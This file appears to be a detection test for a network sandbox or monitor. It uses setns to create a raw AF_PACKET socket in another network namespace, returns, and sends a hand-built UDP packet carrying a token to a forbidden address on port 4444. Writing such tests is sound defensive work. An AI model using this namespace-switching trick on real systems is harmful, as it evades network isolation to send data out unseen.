#!/usr/bin/python3
# id: b06d_packet_thread_netns
# title: AF_PACKET made by a thread that moved to another network namespace and back
# needs: root
# expect: detect
# why: the socket belongs to a namespace of which the process is no member any more
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    L = ctypes.CDLL(None, use_errno=True); here = os.open('/proc/thread-self/ns/net', os.O_RDONLY)
    if L.setns(os.open(E('BP_FAR', '/var/run/netns/bps'), os.O_RDONLY), 0x40000000): raise OSError('setns')
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('lo', 0)); L.setns(here, 0x40000000)
    s.send(b'\0' * 12 + b'\x08\0' + ip4('10.99.0.200', FORB, 17, udp4('10.99.0.200', FORB, 4444, P_UDP, TOK.encode()))); time.sleep(3)
attempt(f, chan=('udp', 'pkt'))
